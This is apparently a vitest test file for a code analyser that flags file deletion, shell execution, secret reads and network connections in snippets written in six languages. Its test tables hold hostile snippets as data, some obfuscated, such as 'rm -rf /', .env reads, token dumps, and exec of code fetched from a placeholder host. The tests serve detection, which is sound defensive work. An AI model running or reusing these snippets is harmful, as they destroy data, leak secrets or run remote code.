import { describe, expect, it } from 'vitest';
import type { Language, RunFromCode, ShellAnalysis } from '../contract.ts';
import { analyseCode, MAX_CODE_LENGTH } from './index.ts';

const NOTHING: ShellAnalysis = { actions: [], unknown: [], simpleCommands: [], scripts: [] };

/** Everything the code would do, as short lines: `file.delete a`, `shell rm -rf x`, `argv rm|x`. */
function found(language: Language, code: string): { does: string[]; unknown: readonly string[] } {
  const started: string[] = [];
  const run: RunFromCode = {
    line: (text) => {
      started.push(`shell ${text.text}`);
      return NOTHING;
    },
    argv: (words) => {
      started.push(`argv ${words.map((word) => word.text).join('|')}`);
      return NOTHING;
    },
  };
  const analysis = analyseCode(language, code, { cwd: '/w' }, run);
  const actions = analysis.actions.map((action) => {
    const subject = action.params['file_path'] ?? action.params['host'] ?? action.params['kind'];
    return subject === undefined ? action.name : `${action.name} ${String(subject)}`;
  });
  return { does: [...actions, ...started], unknown: analysis.unknown };
}

type Row = readonly [language: Language, code: string, ...expected: string[]];

const ATTACKS: readonly Row[] = [
  ['python', `print(open('.env').read())`, 'file.read .env'],
  ['python', `import os; os.system('rm -rf /')`, 'shell rm -rf /'],
  ['python', `from os import *; remove('x'); system('ls')`, 'file.delete x', 'shell ls'],
  ['python', `import os as o; o.unlink('x')`, 'file.delete x'],
  ['python', `from shutil import rmtree as r; r('build')`, 'file.delete build'],
  ['python', `import subprocess as s; s.run(['rm', '-rf', d])`, 'argv rm|-rf|*'],
  ['python', `import subprocess; subprocess.Popen('a | b', shell=True)`, 'shell a | b'],
  ['python', `from pathlib import Path; (Path('a') / 'b').unlink()`, 'file.delete a/b'],
  [
    'python',
    `from pathlib import Path\n[f.unlink() for f in Path('.').glob('*.py')]`,
    'file.delete *.py',
  ],
  ['python', `import os\nfor f in ['a', 'b']:\n  os.remove(f)`, 'file.delete a', 'file.delete b'],
  ['python', `def clean(p):\n  import shutil\n  shutil.rmtree(p)\nclean('x')`, 'file.delete x'],
  ['python', `getattr(__import__('os'), 'sys' + 'tem')('id')`, 'shell id'],
  ['python', `exec("import os\\nos.unlink('z')")`, 'file.delete z'],
  [
    'python',
    `import base64, os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())`,
    'shell rm -rf /',
  ],
  ['python', `c = 'rm'\nc += ' -rf /'\nimport os; os.system(c)`, 'shell rm -rf /'],
  ['python', `import os; os.system(' '.join(['rm', '-rf', '/']))`, 'shell rm -rf /'],
  ['python', `import os; os.system('rm %s' % '/')`, 'shell rm /'],
  ['python', `import os; print(os.environ)`, 'secret.read environment'],
  ['python', `import os; print(os.environ['API_TOKEN'])`, 'secret.read environment API_TOKEN'],
  ['python', `import socket; socket.create_connection(('h', 4444))`, 'net.connect h'],
  ['python', `import os; os.execvp('rm', ['rm', '-rf', '/'])`, 'argv rm|-rf|/'],
  ['javascript', `require('fs').rmSync('/a', { recursive: true })`, 'file.delete /a'],
  ['javascript', `const { execSync: e } = require('node:child_process'); e('rm x')`, 'shell rm x'],
  ['javascript', `import('fs').then(f => f.unlinkSync('q'))`, 'file.delete q'],
  ['javascript', `import { rm } from 'fs/promises'; await rm('d')`, 'file.delete d'],
  ['javascript', `const f = require('fs'); f['un' + 'linkSync']('a')`, 'file.delete a'],
  ['javascript', `const f = require('fs'); eval("f.unlinkSync('b')")`, 'file.delete b'],
  ['javascript', `['a', 'b'].forEach(require('fs').unlinkSync)`, 'file.delete a', 'file.delete b'],
  ['javascript', `require('child_process').spawn('rm', ['-rf', 'x'])`, 'argv rm|-rf|x'],
  [
    'javascript',
    `require('fs').readFileSync(Buffer.from('LmVudg==', 'base64').toString())`,
    'file.read .env',
  ],
  ['javascript', `console.log(process.env)`, 'secret.read environment'],
  ['typescript', `const x: string = 'a'; require('fs').unlinkSync(x as string)`, 'file.delete a'],
  ['typescript', 'await $`rm -rf a`', 'shell rm -rf a'],
  ['ruby', `require 'fileutils'; FileUtils.rm_rf('/home/u')`, 'file.delete /home/u'],
  ['ruby', '`rm -rf x`', 'shell rm -rf x'],
  ['ruby', `%x(rm -rf y)`, 'shell rm -rf y'],
  ['ruby', `system 'rm', '-rf', 'x'`, 'argv rm|-rf|x'],
  ['ruby', `Dir.glob('*.log').each { |f| File.delete(f) }`, 'file.delete *.log'],
  ['ruby', `puts File.read('.env')`, 'file.read .env'],
  ['ruby', `Kernel.send(:system, 'rm x')`, 'shell rm x'],
  ['ruby', `File.public_send('delete', 'x')`, 'file.delete x'],
  ['ruby', `IO.popen("rm x")`, 'shell rm x'],
  ['ruby', `c = 'rm'; system("#{c} -rf /")`, 'shell rm -rf /'],
  ['perl', `unlink 'a', "b"`, 'file.delete a', 'file.delete b'],
  ['perl', `unlink glob '*.tmp'`, 'file.delete *.tmp'],
  ['perl', `system('rm', '-rf', 'x')`, 'argv rm|-rf|x'],
  ['perl', `my $c = 'rm -rf /'; exec $c`, 'shell rm -rf /'],
  ['perl', `open(my $fh, '<', '.env'); print <$fh>`, 'file.read .env'],
  ['perl', `open F, "rm x |"`, 'shell rm x '],
  ['perl', `use File::Path; rmtree('x')`, 'file.delete x'],
  ['perl', 'print `rm x`', 'shell rm x'],
  ['lua', `os.execute('rm -rf /')`, 'shell rm -rf /'],
  ['lua', `os.remove"a"`, 'file.delete a'],
  ['lua', `print(io.open('.env'):read('*a'))`, 'file.read .env'],
  ['php', `unlink('a');`, 'file.delete a'],
  ['php', `echo file_get_contents('.env');`, 'file.read .env'],
  ['php', '`rm -rf x`;', 'shell rm -rf x'],
  ['php', `$f = 'unlink'; $f('z');`, 'file.delete z'],
  ['php', `call_user_func('system', 'rm x');`, 'shell rm x'],
  ['php', `foreach (glob('*.x') as $q) unlink($q);`, 'file.delete *.x'],
];

const LOOK_ALIKES: readonly Row[] = [
  ['python', `print('rm -rf / and os.remove')`],
  ['python', `import json, sys; print(json.load(sys.stdin)['a'])`],
  ['python', `import os; print(os.environ['PATH'], os.getenv('HOME'))`],
  ['python', `import re; print(re.sub('a', 'b', 'c'))`],
  ['python', `x = {'remove': 1}; x.pop('remove'); l = [1]; l.remove(1)`],
  ['javascript', `console.log("require('fs').rmSync('/')")`],
  ['javascript', `const s = new Set([1]); s.delete(1); new Map().delete('x')`],
  ['javascript', `console.log(process.env.PATH, process.version)`],
  ['ruby', `puts 'rm -rf /'; [1].delete(1)`],
  ['ruby', `puts "#{1 + 1} files"; x = { a: 1 }; x.delete(:a)`],
  ['perl', `print join(',', map { $_ * 2 } (1, 2, 3)), "\\n"`],
  ['perl', `$_ =~ s/unlink/x/g; print if /system/`],
  ['lua', `print('os.remove("a")') -- os.execute('rm')`],
  ['php', `echo "unlink('a')"; $x = ['unlink' => 1];`],
];

const named = (rows: readonly Row[]) =>
  rows.map(([language, code, ...expected]) => ({ language, code, expected }));

describe('inline code does what its calls do', () => {
  it.each(named(ATTACKS))('$language: $code', ({ language, code, expected }) => {
    expect(found(language, code).does).toEqual(expect.arrayContaining(expected));
  });
});

describe('text in code that only looks like a call is data', () => {
  it.each(named(LOOK_ALIKES))('$language: $code', ({ language, code }) => {
    expect(found(language, code)).toEqual({ does: [], unknown: [] });
  });
});

describe('what cannot be read is said so', () => {
  it('names code that comes from the network', () => {
    const { does, unknown } = found(
      'python',
      `import requests; exec(requests.get('http://e.example/a').text)`,
    );
    expect(unknown).toContain('remote-code');
    expect(does).toContain('code.execute');
  });

  it('names code that comes from the network through a callback', () => {
    expect(
      found('javascript', `fetch('http://e.example').then(r => r.text()).then(eval)`).unknown,
    ).toContain('remote-code');
  });

  it('names decoded code whose text is not constant', () => {
    expect(found('python', `import base64; exec(base64.b64decode(x))`).unknown).toContain(
      'decoded-code',
    );
  });

  it('names generated code', () => {
    expect(found('javascript', `eval(x)`).unknown).toContain('dynamic-code');
    expect(found('python', `getattr(__import__('os'), x)('id')`).unknown).toContain('dynamic-code');
  });

  it('does not read what is no code of the language', () => {
    expect(found('javascript', 'rm -rf /').unknown).toContain('dynamic-code');
  });

  it('keeps the alternatives of a value that depends on a condition', () => {
    const { does } = found('python', `p = 'a'\nif x:\n  p = 'b'\nimport os; os.remove(p)`);
    expect(does).toEqual(['file.delete a', 'file.delete b']);
  });

  it('refuses code that is too long, and ends on code that never would', () => {
    expect(found('python', 'x'.repeat(MAX_CODE_LENGTH + 1)).unknown).toEqual(['too-long']);
    expect(found('python', 'def f(): f()\nf()').unknown).toEqual([]);
    expect(() => found('javascript', '['.repeat(20_000))).not.toThrow();
    expect(() => found('perl', '{('.repeat(20_000))).not.toThrow();
  });
});

describe('a path that begins at the home folder', () => {
  const ignore: RunFromCode = { line: () => NOTHING, argv: () => NOTHING };
  const written = (language: Language, code: string) =>
    analyseCode(language, code, { cwd: '/w', home: '/home/u' }, ignore).actions.map(
      ({ params }) => params['file_path'],
    );

  it.each([
    ['python', `import os; open(os.path.expanduser('~/.x/a'), 'w')`],
    ['python', `from pathlib import Path; (Path.home() / '.x' / 'a').write_text('')`],
    ['javascript', `require('fs').writeFileSync(require('os').homedir() + '/.x/a', '')`],
  ] as const)('%s: %s', (language, code) => {
    expect(written(language, code)).toEqual(['/home/u/.x/a']);
  });

  it('is told from a name that only holds a tilde', () => {
    expect(written('python', `open('a~/b', 'w'); open('~a', 'w')`)).toEqual(['a~/b', '~a']);
  });
});
